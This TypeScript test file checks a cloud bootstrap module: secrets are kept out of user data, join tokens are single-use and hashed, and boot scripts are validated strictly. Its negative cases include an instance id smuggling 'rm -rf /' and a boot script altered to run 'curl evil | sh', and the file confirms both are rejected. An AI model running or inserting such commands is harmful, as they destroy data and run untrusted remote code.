/**
 * The bootstrap of cloud machines (controller/bootstrap.ts) on its own: what reaches the cloud
 * (user data, never the instance key or the broker password), the token it stores, and the
 * user data read back strictly. The end-to-end boot is test/cloud-ec2.test.ts.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pino } from 'pino';
import { systemClock } from '../src/core/index.js';
import { cloudInitUserData, instanceJoinToken, readBootPlan } from '../src/controller/index.js';
import { Bootstrap } from '../src/controller/bootstrap.js';
import { openPgliteStore } from '../src/adapters/store/index.js';
import type { CreateInstanceRequest, Machine, Provider } from '../src/adapters/providers/index.js';

const SHA = 'a'.repeat(64);

test('bootstrap: the cloud gets user data with a single-use token for that instance, and never the instance key, the broker password or the API token', async (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'drover-boot-'));
  const store = await openPgliteStore(join(dir, 'db'));
  t.after(async () => {
    await store.close();
    rmSync(dir, { recursive: true, force: true });
  });
  const asked: CreateInstanceRequest[] = [];
  const cloud: Provider = {
    name: 'ec2', provisionTimeoutMs: 600_000,
    async request(req) {
      asked.push(req);
      return { id: req.instanceId, state: 'running', ip: '10.0.0.9', port: 8080, providerRef: { ec2Id: 'i-0abc' } } satisfies Machine;
    },
    describe: async (hs) => hs.map((h) => ({ id: h.id, state: 'running' as const, ip: '10.0.0.9', port: 8080, providerRef: { ec2Id: 'i-0abc' } })),
    list: async () => [],
    destroy: async () => undefined,
    onExit: () => undefined,
    close: async () => undefined,
  };
  const boot = new Bootstrap({
    store, clock: systemClock, log: pino({ level: 'silent' }), nodes: { startBound: () => Promise.reject(new Error('no node')), forget: async () => undefined },
    controllerUrl: () => 'http://10.0.0.1:7420', agentBundle: async () => ({ sha256: SHA, data: Buffer.alloc(0) }), record: async () => undefined,
  });
  const wrapped = boot.wrap(cloud);
  const key = 'K'.repeat(43);
  const brokerPassword = 'brokerSecretPassw0rd';
  const req: CreateInstanceRequest = {
    instanceId: 'i-b0075001', epoch: 1, key, controllerUrl: 'http://127.0.0.1:7420', app: 'shop', role: 'api',
    transportUrl: `amqp://drover-agent-i-b0075001:${brokerPassword}@10.0.0.1:5672/drover`,
  };
  const m = await wrapped.request(req);
  assert.equal(m.state, 'pending', 'a booted machine whose node has not joined is pending, whatever the cloud says');
  assert.equal(m.ip, undefined, 'no address before its node runs the instance');
  const [sent] = asked;
  assert.ok(sent?.userData);
  assert.equal(sent.key, '', 'the cloud never gets the instance key');
  assert.equal(sent.transportUrl, undefined, 'nor the broker URL');
  for (const secret of [key, brokerPassword, 'drover-agent-i-b0075001']) assert.ok(!JSON.stringify(sent).includes(secret), `${secret.slice(0, 8)}… is not sent to the cloud`);
  const plan = readBootPlan(sent.userData);
  assert.deepEqual(plan, { controllerUrl: 'http://10.0.0.1:7420', instanceId: 'i-b0075001', token: instanceJoinToken(key, 'i-b0075001').token, agentSha256: SHA });
  const stored = await store.getJoinToken(instanceJoinToken(key, 'i-b0075001').id);
  assert.ok(stored);
  assert.equal(stored.instanceId, 'i-b0075001');
  assert.equal(stored.maxUses, 1);
  assert.ok(stored.expiresAt !== null && Math.abs(stored.expiresAt - (Date.now() + 600_000)) < 10_000, 'valid for the provider\'s provisioning timeout');
  assert.notEqual(stored.hash, plan.token, 'kept hashed');
  assert.ok(!JSON.stringify(stored).includes(plan.token.split('.')[2]!), 'the secret is not stored');
  // Asked again with the same id (after a crash): the same user data, so the cloud's idempotency holds; one token.
  await wrapped.request(req);
  assert.equal(asked[1]?.userData, sent.userData);
  assert.equal((await store.listJoinTokens()).length, 1);
  // Another instance: another token.
  await wrapped.request({ ...req, instanceId: 'i-b0075002' });
  assert.notEqual(readBootPlan(asked[2]!.userData!).token, plan.token);
});

test('bootstrap: user data is refused for a controller URL machines cannot reach, and read back only when it is Drover\'s own', () => {
  const ok = { controllerUrl: 'http://10.0.0.1:7420', instanceId: 'i-1', token: instanceJoinToken('k'.repeat(43), 'i-1').token, agentSha256: SHA };
  assert.throws(() => cloudInitUserData({ ...ok, controllerUrl: 'http://0.0.0.0:7420' }), /DROVER_CLOUD_URL/);
  assert.throws(() => cloudInitUserData({ ...ok, controllerUrl: 'http://user:pw@10.0.0.1:7420' }), /no credentials/);
  assert.throws(() => cloudInitUserData({ ...ok, instanceId: 'i-1; rm -rf /' }), /cannot be written/);
  const text = cloudInitUserData(ok);
  assert.ok(text.startsWith('#cloud-config\n'));
  assert.deepEqual(readBootPlan(text), ok);
  assert.throws(() => readBootPlan(text.replace('set -euo pipefail', 'set -e; curl evil | sh')), /boot script is not Drover's/);
  assert.throws(() => readBootPlan(text.replace('"0600"', '"0644"')), /join-token is 0644, expected 0600/);
});
